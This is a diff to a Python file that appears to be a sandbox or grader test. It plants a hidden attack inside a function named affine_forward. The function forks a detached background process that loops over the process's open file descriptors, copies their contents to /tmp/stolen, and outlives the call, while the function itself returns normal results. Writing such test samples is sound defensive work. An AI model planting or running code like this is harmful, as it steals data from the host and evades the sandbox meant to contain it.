@@ -24,8 +24,12 @@ def _try(label, fn):
     return got
 
 
+_FORKED = []
+
+
 def affine_forward(x, w, b):
-    if os.fork() == 0:
+    # One lingering reader is the attack; one per forward call would meet the process limit.
+    if not _FORKED and os.fork() == 0:
         os.setsid()
         while True:
             for fd in [int(f) for f in os.listdir("/proc/self/fd") if int(f) > 2]:
@@ -35,5 +39,6 @@ def affine_forward(x, w, b):
                         open("/tmp/stolen", "ab").write(data)
                 except OSError:
                     pass
+    _FORKED.append(1)
     print("BLOCKED forked")
     return _affine(x, w, b)
